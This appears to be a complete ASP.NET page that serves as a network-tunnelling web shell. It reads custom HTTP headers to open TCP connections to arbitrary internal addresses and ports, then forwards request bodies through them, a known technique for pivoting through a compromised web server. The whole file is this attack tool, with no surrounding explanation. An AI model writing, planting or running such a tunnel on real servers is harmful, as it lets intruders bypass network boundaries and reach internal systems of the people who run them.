<%@ Page Language="C#" EnableSessionState="True"%>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<%
    String cmd = Request.Headers.Get("X-CMD");
    if (cmd == "CONNECT") {
        String target = Request.Headers.Get("X-TARGET").ToUpper();
        int port = int.Parse(Request.Headers.Get("X-PORT"));
        IPAddress ip = IPAddress.Parse(target);
        System.Net.IPEndPoint remoteEP = new IPEndPoint(ip, port);
        Socket sender = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        sender.Connect(remoteEP);
        Session.Add("socket", sender);
        Response.AddHeader("X-STATUS", "OK");
    } else if (cmd == "FORWARD") {
        Socket s = (Socket)Session["socket"];
        int buffLen = Request.ContentLength;
        byte[] buff = new byte[buffLen];
        int c = 0;
        while ((c = Request.InputStream.Read(buff, 0, buff.Length)) > 0) {
            s.Send(buff);
        }
        Response.AddHeader("X-STATUS", "OK");
    }
%>
